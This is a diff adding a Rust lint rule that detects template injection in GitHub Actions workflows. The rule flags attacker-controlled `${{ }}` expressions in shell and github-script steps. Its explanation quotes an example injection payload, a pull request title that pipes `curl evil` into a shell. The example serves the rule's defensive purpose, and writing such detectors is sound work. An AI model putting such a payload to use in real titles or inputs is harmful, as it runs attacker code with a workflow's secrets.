@@ -1,0 +1,126 @@
+use crate::expr;
+use crate::{Ctx, rule};
+use shipshape_core::{Confidence, Diagnostic};
+
+rule! {
+    code: "GHA002", name: "template-injection", severity: Error, category: Security, default: true, fix: None,
+    peers: ["zizmor:template-injection", "checkov:CKV_GHA_2"], options: [],
+    summary: "Attacker-controlled values expanded into a shell script or github-script",
+    what: "Flags `${{ }}` expressions in `run:` (and `actions/github-script`'s `script:`) that read values an outsider controls: issue, pull request, comment, review and commit titles, bodies, messages, branch names (`github.head_ref`), author names and emails. Values no outsider can choose (`github.sha`, `github.run_id`, `*.sha`, numbers, booleans, `steps.*.outcome`) are never flagged; other `github.event.*` fields are flagged with medium confidence.",
+    why: "The expression is pasted into the script before the shell runs it, so a pull request titled `\"; curl evil | sh #` runs that command with the workflow's token and secrets.",
+    example: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - ${{ github.event.issue.title }}\"",
+    instead: "on: issues\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"New issue - $TITLE\"\n        env:\n          TITLE: ${{ github.event.issue.title }}",
+    fix_safety: "No automatic fix yet: move the value into `env:` and reference it as a shell variable.",
+    refs: "- https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections\n- https://docs.zizmor.sh/audits/#template-injection",
+}
+
+/// Trailing fields of `github.event` that an outsider writes.
+const DANGEROUS_SUFFIXES: &[&str] = &[
+    "title",
+    "body",
+    "message",
+    "name",
+    "email",
+    "label",
+    "ref",
+    "head_ref",
+    "head_branch",
+    "display_title",
+    "default_branch",
+    "page_name",
+    "description",
+    "text",
+];
+
+/// How dangerous a context path is: `Some(High)`, `Some(Medium)`, or `None` when safe or unknown.
+pub fn injection_risk(path: &[String]) -> Option<Confidence> {
+    let p: Vec<&str> = path.iter().map(String::as_str).collect();
+    match p.as_slice() {
+        ["github", "head_ref"] => Some(Confidence::High),
+        ["github", "event", rest @ ..] => {
+            let last = *rest.last()?;
+            let trusted_owner = rest.first().is_some_and(|s| {
+                matches!(
+                    *s,
+                    "repository" | "sender" | "pusher" | "installation" | "organization" | "enterprise" | "inputs" | "schedule"
+                )
+            });
+            let safe_leaf = matches!(
+                last,
+                "sha"
+                    | "id"
+                    | "number"
+                    | "node_id"
+                    | "merged"
+                    | "draft"
+                    | "size"
+                    | "created_at"
+                    | "updated_at"
+                    | "state"
+                    | "action"
+                    | "html_url"
+                    | "url"
+                    | "ref_type"
+                    | "forced"
+                    | "private"
+                    | "before"
+                    | "after"
+                    | "login"
+                    | "type"
+                    | "timestamp"
+            );
+            let maintainer_set = rest
+                .first()
+                .is_some_and(|s| matches!(*s, "label" | "milestone" | "workflow_run" | "workflow"))
+                && !matches!(last, "head_branch" | "display_title" | "message" | "email")
+                && !rest.contains(&"head_commit");
+            if trusted_owner || safe_leaf || last.ends_with("_sha") {
+                None
+            } else if maintainer_set {
+                Some(Confidence::Medium)
+            } else if DANGEROUS_SUFFIXES.contains(&last) || rest.iter().any(|s| matches!(*s, "commits" | "head_commit" | "pages")) {
+                Some(Confidence::High)
+            } else {
+                Some(Confidence::Medium)
+            }
+        }
+        _ => None,
+    }
+}
+
+fn check(cx: &Ctx, out: &mut Vec<Diagnostic>) {
+    for (_, step) in cx.steps() {
+        let mut scripts = Vec::new();
+        if let Some(run) = step.get("run") {
+            scripts.push(("run", run));
+        }
+        if crate::model::step_uses(step, "actions/github-script")
+            && let Some(script) = step.get("with").and_then(|w| w.get("script"))
+        {
+            scripts.push(("script", script));
+        }
+        for (what, node) in scripts {
+            let Some(text) = node.as_str() else { continue };
+            for e in expr::embedded(text) {
+                let Ok(parsed) = expr::parse(e.inner) else { continue };
+                for (path, _, _) in parsed.paths() {
+                    let Some(confidence) = injection_risk(path) else { continue };
+                    let written = &text[e.start..e.end];
+                    out.push(
+                        Diagnostic::new(
+                            meta(),
+                            cx.span_in(node, written, 0),
+                            format!(
+                                "`{}` can be set by an outsider and is expanded straight into `{what}:`",
+                                path.join(".")
+                            ),
+                        )
+                        .help("pass it through `env:` (`env: VALUE: ${{ … }}`) and use `\"$VALUE\"` in the script")
+                        .confidence(confidence),
+                    );
+                    break;
+                }
+            }
+        }
+    }
+}
